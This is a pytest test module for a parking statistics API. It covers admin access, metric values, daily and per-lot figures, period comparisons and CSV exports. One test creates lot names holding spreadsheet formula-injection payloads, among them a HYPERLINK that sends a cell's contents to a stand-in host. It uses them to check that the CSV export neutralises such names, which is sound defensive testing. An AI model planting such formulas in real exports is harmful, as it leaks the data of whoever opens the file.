"""The figures over HTTP: who may see them, that each number leads to its bookings, and that the CSV says the same."""

import csv
import io
from datetime import timedelta

import pytest

from parking import clock
from parking.database import db
from parking.statistics.daily import refresh
from parking.statistics.reading import summary
from tests.statistics import world
from tests.statistics.world import utc

WEEK = "from=2026-02-23&to=2026-03-01"


@pytest.fixture
def busy(app, alice, bob):
    """A lot in Berlin with a week of everything; the clock stands at Monday, 2 March, noon."""
    lot = world.make_lot("Harbour", "Europe/Berlin", 4, utc("2026-02-20T00:00"))
    one, two, three, four = world.spot_ids(lot)
    window = {
        "booking_type": "reserved",
        "reserved_start": utc("2026-02-26T08:00"),
        "reserved_end": utc("2026-02-26T10:00"),
    }
    world.put(
        world.row(lot, one, alice.id, utc("2026-02-24T08:00"), utc("2026-02-24T10:30"), total_cost_minor=625),
        world.row(lot, one, bob.id, utc("2026-02-25T22:30"), utc("2026-02-26T00:30"), total_cost_minor=501),
        world.row(lot, two, bob.id, utc("2026-02-26T08:00"), utc("2026-02-26T10:00"), **window, total_cost_minor=500),
        world.row(
            lot, three, alice.id, utc("2026-02-26T08:00"), utc("2026-02-26T08:15"), **window,
            status="No-show", checked_in_at=None, total_cost_minor=500,
        ),
        world.row(
            lot, four, alice.id, utc("2026-02-26T08:00"), utc("2026-02-25T12:00"), **window,
            status="Cancelled", checked_in_at=None, total_cost_minor=0,
        ),
        world.row(lot, three, bob.id, utc("2026-03-02T09:00"), None),
    )  # fmt: skip
    return lot


def metrics_of(answer) -> dict:
    return {one["name"]: one for one in answer.json["stats"]["figures"]}


@pytest.fixture
def ask(client, auth, carol):
    return lambda query, **headers: client.get(f"/api/stats/admin?{query}", headers=auth(carol, **headers))


def test_only_an_administrator_sees_the_statistics_of_all(client, auth, alice, carol):
    assert client.get(f"/api/stats/admin?{WEEK}").status_code == 401
    assert client.get(f"/api/stats/admin.csv?{WEEK}").status_code == 401
    assert client.get(f"/api/stats/admin?{WEEK}", headers=auth(alice)).status_code == 403
    assert client.get(f"/api/stats/admin?{WEEK}", headers=auth(carol)).status_code == 200


@pytest.mark.parametrize(
    "query",
    ["to=2026-02-01", "from=2026-02-01",
     "from=2026-03-01&to=2026-02-01", "from=1960-01-01&to=1960-01-02", "from=x&to=y",
     "from=2000-01-01&to=2026-01-01", "from=2026-02-01&to=2026-02-02&lot_id=0", "from=9999-12-30&to=9999-12-31"],
)  # fmt: skip
def test_an_invalid_period_is_refused(ask, query):
    assert ask(query).status_code == 422


def test_an_unknown_lot_is_not_found(ask, busy):
    assert ask(f"{WEEK}&lot_id=999999").status_code == 404


def test_the_week_in_numbers(ask, busy):
    values = {name: one["value"] for name, one in metrics_of(ask(WEEK)).items()}
    assert values["bookings"] == 5
    assert (values["instant"], values["reserved"], values["visits"], values["drivers"]) == (2, 3, 3, 2)
    assert (values["completed"], values["no_shows"], values["cancelled"]) == (3, 1, 1)
    assert values["revenue"] == 21.26
    assert values["average_stay"] == 7800
    assert values["median_stay"] == 120
    assert values["no_show_rate"] == 25.0
    assert values["cancellation_rate"] == 20.0
    assert values["parked"] == 6.5 * 3600
    assert values["kept_free"] == 15 * 60
    assert values["available"] == 4 * 7 * 86400
    assert values["new_users"] == 0


def test_a_stay_over_midnight_counts_on_both_days_and_pays_on_the_last(ask, busy):
    days = {day["day"]: day for day in ask(WEEK).json["stats"]["days"]}
    before, after = days["2026-02-25"], days["2026-02-26"]
    assert (before["occupied_seconds"], before["bookings"], before["revenue"]) == (1800, 1, 0)
    assert (after["occupied_seconds"], after["bookings"], after["revenue"]) == (5400 + 7200, 3, 15.01)


def test_every_number_has_a_query_for_its_bookings(client, auth, carol, ask, busy):
    metrics = metrics_of(ask(WEEK))
    counted = ["bookings", "instant", "reserved", "visits", "completed", "no_shows", "cancelled", "stays"]
    for name in counted:
        listed = client.get(f"/api/admin/bookings?{metrics[name]['bookings']}", headers=auth(carol)).json["bookings"]
        assert len(listed) == metrics[name]["value"], name
    paid = client.get(f"/api/admin/bookings?{metrics['revenue']['bookings']}", headers=auth(carol)).json["bookings"]
    assert round(sum(one["total_cost"] for one in paid), 2) == metrics["revenue"]["value"]
    stood = client.get(f"/api/admin/bookings?{metrics['parked']['bookings']}", headers=auth(carol)).json["bookings"]
    assert len(stood) == 3
    for day in ask(WEEK).json["stats"]["days"]:
        listed = client.get(f"/api/admin/bookings?{day['bookings_query']}", headers=auth(carol)).json["bookings"]
        assert round(sum(one["total_cost"] for one in listed), 2) == day["revenue"]
    for lot in ask(WEEK).json["stats"]["lots"]:
        listed = client.get(f"/api/admin/bookings?{lot['bookings_query']}", headers=auth(carol)).json["bookings"]
        assert round(sum(one["total_cost"] for one in listed), 2) == lot["revenue"]


@pytest.mark.parametrize("query", ["counted=ended", "counted=ended&from_day=2026-02-02&to_day=2026-02-01",
                                   "counted=x&from_day=2026-02-02&to_day=2026-02-03",
                                   "counted=parked&from_day=2026-02-02&to_day=9999-12-31"])  # fmt: skip
def test_the_days_of_a_query_must_be_dates(client, auth, carol, query):
    assert client.get(f"/api/admin/bookings?{query}", headers=auth(carol)).status_code == 422


def test_today_is_counted_live_and_marked(ask, busy, alice):
    answer = ask("from=2026-03-02&to=2026-03-02")
    stats_now = answer.json["stats"]
    assert stats_now["partial"]
    assert [day["partial"] for day in stats_now["days"]] == [True]
    assert metrics_of(answer)["parked"]["value"] == 3 * 3600
    assert stats_now["now"] == {
        "capacity": 4, "occupied": 1, "reserved": 0, "out_of_service": 0, "available": 3, "occupancy_percent": 25.0,
    }  # fmt: skip
    clock.travel(600)
    world.put(world.row(busy, world.spot_ids(busy)[0], alice.id, clock.now(), None))
    later = ask("from=2026-03-02&to=2026-03-02")
    assert metrics_of(later)["parked"]["value"] == 3 * 3600 + 600
    assert metrics_of(later)["bookings"]["value"] == 2
    assert not ask(WEEK).json["stats"]["partial"]


def test_the_half_hourly_curve_counts_the_parked_cars(ask, busy):
    line = ask("from=2026-02-26&to=2026-02-26").json["stats"]["curve"]
    at = {point["at"]: point["occupied"] for point in line}
    assert len(line) == 48
    assert (at["2026-02-26T00:00:00Z"], at["2026-02-26T00:30:00Z"]) == (1, 0)
    assert (at["2026-02-26T08:00:00Z"], at["2026-02-26T09:30:00Z"], at["2026-02-26T10:00:00Z"]) == (1, 1, 0)
    assert {point["capacity"] for point in line} == {4}
    assert ask(WEEK).json["stats"]["curve"] == []


def test_the_change_to_the_period_before(ask, busy):
    answer = ask("from=2026-02-25&to=2026-02-26&compare=true")
    previous = answer.json["stats"]["previous"]
    assert (previous["from"], previous["to"]) == ("2026-02-23", "2026-02-24")
    revenue = metrics_of(answer)["revenue"]
    assert (revenue["value"], revenue["previous"]) == (15.01, 6.25)
    assert answer.json["stats"]["lots"][0]["revenue_previous"] == 6.25
    assert metrics_of(ask("from=2026-02-25&to=2026-02-26"))["revenue"]["previous"] is None


@pytest.mark.parametrize(
    ("period", "before"),
    [
        (("2026-03-01", "2026-03-31"), ("2026-02-01", "2026-02-28")),
        (("2026-01-01", "2026-03-31"), ("2025-10-01", "2025-12-31")),
        (("2026-03-01", "2026-03-10"), ("2026-02-01", "2026-02-10")),
        (("2026-03-01", "2026-03-30"), ("2026-02-01", "2026-02-28")),
        (("2026-03-04", "2026-03-10"), ("2026-02-25", "2026-03-03")),
        (("2026-03-02", "2026-03-02"), ("2026-03-01", "2026-03-01")),
    ],
)
def test_the_period_before(period, before):
    from datetime import date

    previous = summary.previous_period(*(date.fromisoformat(day) for day in period))
    assert tuple(day.isoformat() for day in previous) == before


def table(answer) -> list[dict]:
    assert answer.content_type.startswith("text/csv")
    text = answer.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_equals_the_json_answer(client, auth, carol, ask, busy):
    stats = ask(WEEK).json["stats"]
    days = table(ask(WEEK, Accept="text/csv"))
    assert [float(day["revenue_EUR"]) for day in days] == [day["revenue"] for day in stats["days"]]
    assert days == table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=days", headers=auth(carol)))
    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=lots", headers=auth(carol)))
    assert [(lot["name"], float(lot["revenue_EUR"])) for lot in lots] == [("Harbour", 21.26)]
    figures = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=figures", headers=auth(carol)))
    assert {one["name"]: one["value"] for one in figures}["bookings"] == "5"
    hours = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=hours", headers=auth(carol)))
    assert len(hours) == 168
    stays = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=stays", headers=auth(carol)))
    assert sum(int(bar["count"]) for bar in stays) == 3
    curve = client.get("/api/stats/admin.csv?from=2026-02-26&to=2026-02-26&table=curve", headers=auth(carol))
    assert len(table(curve)) == 48


def test_a_name_that_a_spreadsheet_would_run_stays_text(client, auth, carol, busy):
    behind = 'Süd;=HYPERLINK("http://x.example/?"&A1;"open")'
    for name in ("=HYPERLINK(1)", behind, "Ost\t@SUM(A1)"):
        world.make_lot(name, "UTC", 1, utc("2026-02-20T00:00"))
    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=lots", headers=auth(carol)))
    safe = {"'=HYPERLINK(1)", behind.replace(";=", ";'="), "Ost\t'@SUM(A1)"}
    assert safe <= {lot["name"] for lot in lots}


def test_a_users_month(client, auth, alice, bob, busy):
    assert client.get("/api/stats/user").status_code == 401
    mine = client.get("/api/stats/user?month=2026-02", headers=auth(bob)).json["stats"]
    assert (mine["visits"], mine["parked_seconds"], mine["spent"], mine["favourite"]) == (2, 14400, 10.01, "Harbour")
    hers = client.get("/api/stats/user?month=2026-02", headers=auth(alice)).json["stats"]
    assert (hers["visits"], hers["spent"]) == (1, 11.25)  # the no-show cost, the cancellation did not
    rows = table(client.get("/api/stats/user.csv?month=2026-02", headers=auth(alice)))
    assert rows == [
        {"Lot ID": str(busy), "Name": "Harbour", "Visits": "1", "Parked (seconds)": "9000", "Spent (EUR)": "11.25"}
    ]
    assert client.get("/api/stats/user", headers=auth(bob)).json["stats"]["month"] == "2026-03"
    assert client.get("/api/stats/user?month=2026-13", headers=auth(bob)).status_code == 422


def test_a_users_month_ends_at_the_lots_midnight(client, auth, alice, app):
    lot = world.make_lot("Far", "Pacific/Auckland", 1, utc("2026-01-01T00:00"))
    (spot,) = world.spot_ids(lot)
    world.put(
        world.row(lot, spot, alice.id, utc("2026-01-31T09:00"), utc("2026-01-31T10:59:59")),
        world.row(lot, spot, alice.id, utc("2026-01-31T11:00:01"), utc("2026-01-31T12:00")),
    )
    visits = [
        client.get(f"/api/stats/user?month={month}", headers=auth(alice)).json["stats"]["visits"]
        for month in ("2026-01", "2026-02")
    ]
    assert visits == [1, 1]


def test_an_empty_day_has_zeros(ask, app):
    stats = ask(WEEK).json["stats"]
    assert stats["lots"] == []
    assert {one["value"] for one in stats["figures"]} == {0, None}
    assert len(stats["days"]) == 7


def test_one_lot_and_all_lots_agree_before_and_after_a_roll_up(ask, busy, alice):
    other = world.make_lot("Other", "Asia/Kolkata", 2, utc("2026-02-20T00:00"))
    world.put(world.row(other, world.spot_ids(other)[0], alice.id, utc("2026-02-24T08:00"), utc("2026-02-24T09:00")))

    def totals() -> list:
        db.session.rollback()
        return [ask(f"{WEEK}{lot}").json["stats"] for lot in ("", f"&lot_id={busy}", f"&lot_id={other}")]

    before = totals()
    assert refresh.roll_up() > 0
    assert totals() == before
    with clock.set_to(clock.now() + timedelta(days=40)):
        assert refresh.roll_up() > 0
    whole, one, two = before
    for name in ("bookings", "revenue", "parked", "available", "stays"):
        values = [next(f["value"] for f in part["figures"] if f["name"] == name) for part in (whole, one, two)]
        assert values[0] == pytest.approx(values[1] + values[2])
